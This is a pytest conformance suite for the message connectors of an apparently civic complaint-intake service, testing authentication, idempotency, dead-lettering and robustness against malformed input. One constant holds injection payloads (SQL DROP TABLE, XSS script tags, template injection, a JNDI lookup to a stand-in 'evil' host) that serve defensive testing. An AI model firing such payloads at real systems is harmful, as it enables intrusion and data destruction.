"""One conformance suite, every connector: accepted and on requests.raw, redelivery
idempotent, bad or missing credentials refused with nothing produced, malformed payloads
dead-lettered with reason and bytes, hostile inputs handled (never a 500, never a crash)."""

from __future__ import annotations

import pytest

from schemas import topics
from schemas.request import CitizenRequest, make_request_id
from tests.connectors.channels import CONNECTORS, FORGED, HTTP_CONNECTORS, MISSING, Connector
from tests.support import header, read_topic, unique

pytestmark = pytest.mark.slow

ids = [c.name for c in CONNECTORS]
http_ids = [c.name for c in HTTP_CONNECTORS]
TEXT = "Kızılay'da çöp konteyneri üç gündür boşaltılmadı, koku dayanılmaz"
HOSTILE = ("Robert'); DROP TABLE requests;-- <script>alert('xss')</script> <img src=x onerror=alert(1)> "
           "{{7*7}} ${jndi:ldap://evil/x} \" OR 1=1 --")


def _one(c: Connector, harness, text: str = TEXT) -> tuple[str, bytes, CitizenRequest]:
    uid = unique("c")
    body = c.build(uid, text)
    out = c.submit(harness, body)
    assert out.status == 200, out.body
    assert len(out.published) == 1 and out.dead == []
    return uid, body, out.published[0]


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_valid_payload_is_accepted_and_lands_on_requests_raw(c: Connector, harness) -> None:
    uid, body, req = _one(c, harness)
    external = c.external_id(uid, body)
    assert req.channel.value == c.channel and req.external_id == external
    assert req.request_id == make_request_id(c.channel, external)
    assert req.text == TEXT
    # The provider payload verbatim: the whole body, or this message's part of a batch.
    assert req.raw.to_bytes() == body or external.encode() in req.raw.to_bytes()
    found = read_topic(harness.bootstrap, topics.RAW, timeout=10, until=1,
                       match=lambda m: header(m, "request-id") == req.request_id)
    assert found, f"{req.request_id} not on {topics.RAW}"
    on_topic = CitizenRequest.from_json(found[0].value())
    assert on_topic == req and found[0].key() == req.citizen.id.encode()


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_redelivery_maps_to_the_same_request(c: Connector, harness) -> None:
    uid = unique("r")
    body = c.build(uid, TEXT)
    first, again = c.submit(harness, body), c.submit(harness, body)
    assert first.status == again.status == 200
    assert [r.request_id for r in first.published] == [r.request_id for r in again.published]
    assert len(first.published) == 1


@pytest.mark.parametrize("auth", [FORGED, MISSING])
@pytest.mark.parametrize("c", HTTP_CONNECTORS, ids=http_ids)
def test_bad_or_missing_credentials_are_refused_and_produce_nothing(c: Connector, auth: str, harness) -> None:
    out = c.submit(harness, c.build(unique("f"), TEXT), auth=auth)
    assert out.status in (401, 403), out.body
    assert out.published == [] and out.dead == []


@pytest.mark.parametrize("c", HTTP_CONNECTORS, ids=http_ids)
def test_unconfigured_secret_fails_closed(c: Connector, harness, noida, tmp_path) -> None:
    from fastapi.testclient import TestClient

    from civicdesk.service import create_app
    from tests.conftest import settings_for

    if c.name == "open311":
        pytest.skip("open311_api_key is optional by design: unset means an open public form")
    bare = settings_for(noida, tmp_path).model_copy(update={
        "twilio_auth_token": None, "meta_app_secret": None, "telegram_secret_token": None, "voice_token": None})
    with TestClient(create_app(bare, ingestor=harness.recorder), base_url=bare.public_base_url) as client:
        mark = harness.recorder.mark()
        body = c.build(unique("u"), TEXT)
        headers = {"Content-Type": c.content_type, **c.headers(harness, body, "valid")}  # type: ignore[misc]
        resp = client.post(c.path, content=body, headers=headers)  # type: ignore[arg-type]
    assert resp.status_code == 403 and "not configured" in resp.json()["error"]
    assert harness.recorder.since(mark) == ([], [])


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_malformed_payload_is_dead_lettered_with_reason_and_bytes(c: Connector, harness) -> None:
    uid = unique("m")
    body = c.malformed(uid)
    out = c.submit(harness, body)
    assert 400 <= out.status < 500 and out.published == []
    assert len(out.dead) == 1
    letter = out.dead[0]
    assert letter.reason and letter.stage.startswith("connector:")
    assert uid.encode() in letter.raw()
    found = read_topic(harness.bootstrap, topics.DLQ, timeout=10, until=1,
                       match=lambda m: uid.encode() in __import__("base64").b64decode(
                           __import__("json").loads(m.value())["raw_b64"]))
    assert found, f"dead letter for {uid} not on {topics.DLQ}"


def invalid_utf8(c: Connector, uid: str) -> bytes:
    """A payload of the connector's type with bytes that are not UTF-8 (Latin-5 'ç' = 0xE7)."""
    if c.name == "email":
        return (f"From: ayse@example.org\r\nSubject: cop\r\nMessage-ID: <{uid}@x>\r\nMIME-Version: 1.0\r\n"
                "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n").encode() \
            + b"\xe7\xf6p toplanmad\xfd\r\n"
    if c.content_type == "application/x-www-form-urlencoded":
        return c.build(uid, TEXT) + b"&Note=\xe7\xf6p"
    return c.build(uid, TEXT).replace("ç".encode(), b"\xe7")


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_invalid_utf8_is_rejected_or_kept_never_a_crash(c: Connector, harness) -> None:
    body = invalid_utf8(c, unique("u"))
    out = c.submit(harness, body)
    if c.name == "email":
        # Mail declares its charset: undecodable bytes become U+FFFD, the raw bytes are kept as they came.
        assert out.status == 200 and "\ufffd" in out.published[0].text
        assert out.published[0].raw.to_bytes() == body
        return
    assert 400 <= out.status < 500 and out.published == []
    assert len(out.dead) == 1 and out.dead[0].raw() == body and "UTF-8" in out.dead[0].reason


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_ten_thousand_deep_nesting_is_rejected_not_a_crash(c: Connector, harness) -> None:
    body = b"[" * 10_000 + b"]" * 10_000
    out = c.submit(harness, body)
    assert 400 <= out.status < 500 and out.published == []
    assert len(out.dead) == 1 and out.dead[0].raw() == body


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_nul_bytes_are_dropped_from_text_and_kept_in_raw(c: Connector, harness) -> None:
    _, body, req = _one(c, harness, text="Su\x00 kesik, sokak\x00 karanlık")
    assert req.text == "Su kesik, sokak karanlık"
    assert req.raw.to_bytes() == body or b"\\u0000" in req.raw.to_bytes()


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_empty_body_is_a_clear_4xx(c: Connector, harness) -> None:
    out = c.submit(harness, b"")
    assert 400 <= out.status < 500 and out.published == []


@pytest.mark.parametrize("c", CONNECTORS, ids=ids)
def test_injection_strings_are_stored_verbatim(c: Connector, harness) -> None:
    _, _, req = _one(c, harness, text=HOSTILE)
    assert req.text == HOSTILE


def test_nothing_refused_reaches_kafka(harness) -> None:
    uids = []
    for c in HTTP_CONNECTORS:
        for auth in (FORGED, MISSING):
            uid = unique("x")
            uids.append(uid.encode())
            assert c.submit(harness, c.build(uid, TEXT), auth=auth).status in (401, 403)
    raw = read_topic(harness.bootstrap, topics.RAW, timeout=3)
    dead = read_topic(harness.bootstrap, topics.DLQ, timeout=1)
    leaked = [m for m in raw + dead for u in uids if u in (m.value() or b"")]
    assert leaked == []
